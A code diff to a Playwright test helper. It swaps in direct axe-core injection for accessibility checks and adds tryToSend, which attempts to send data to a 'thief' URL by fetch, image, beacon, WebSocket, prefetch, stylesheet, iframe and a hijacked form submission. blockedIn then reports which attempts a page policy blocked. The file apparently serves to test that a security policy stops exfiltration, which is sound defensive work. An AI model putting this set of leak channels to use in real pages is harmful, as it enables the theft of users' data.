@@ -1,6 +1,6 @@
 /** A real Chromium for tests: Debian's package, or whichever CHROMIUM_PATH names. It talks to loopback only. */
 import { existsSync } from 'node:fs';
-import { AxeBuilder } from '@axe-core/playwright';
+import axe, { type AxeResults } from 'axe-core';
 import { type Browser, chromium, type Page } from 'playwright-core';
 
 const quiet = [
@@ -45,12 +45,34 @@ export async function captureConsole(page: Page): Promise<string[]> {
   return lines;
 }
 
-/**
- * The legacy mode leaves out frames of other origins, which no page here has, and takes half the time.
- *
- * @returns what axe finds, one line for each rule and element
- */
+/** @returns what axe finds, one line for each rule and element; frames are not looked into */
 export async function findBarriers(page: Page): Promise<string[]> {
-  const { violations } = await new AxeBuilder({ page }).setLegacyMode().analyze();
+  if (!(await page.evaluate(() => 'axe' in globalThis))) await page.evaluate(axe.source);
+  const { violations } = await page.evaluate<AxeResults>('axe.run({ iframes: false, resultTypes: ["violations"] })');
   return violations.flatMap(({ id, impact, nodes }) => nodes.map(({ html }) => `${impact} ${id}: ${html}`));
 }
+
+/** Tries to send something to a thief from inside a page, in every way that a script has, its form among them (catalogue, B-3). */
+export async function tryToSend(page: Page, thief: string): Promise<void> {
+  await page.evaluate(async (to) => {
+    const add = (name: string, members: object) =>
+      document.body.append(Object.assign(document.createElement(name), members));
+    await fetch(`${to}/fetch`).catch(() => undefined);
+    add('img', { src: `${to}/img` });
+    navigator.sendBeacon(`${to}/beacon`, 'x');
+    try {
+      new WebSocket(`${to.replace('http', 'ws')}/socket`);
+    } catch {}
+    add('link', { rel: 'prefetch', href: `${to}/prefetch` });
+    add('link', { rel: 'stylesheet', href: `${to}/style` });
+    add('iframe', { src: `${to}/frame` });
+    const form = document.querySelector('form') as HTMLFormElement;
+    form.action = `${to}/form`;
+    form.submit();
+    await new Promise((resolve) => setTimeout(resolve, 500));
+  }, thief);
+}
+
+/** What the policy has blocked so far. @param spoken - of `captureConsole` */
+export const blockedIn = (spoken: readonly string[]): string[] =>
+  spoken.filter((line) => line.startsWith('blocked: ')).map((line) => line.slice('blocked: '.length));
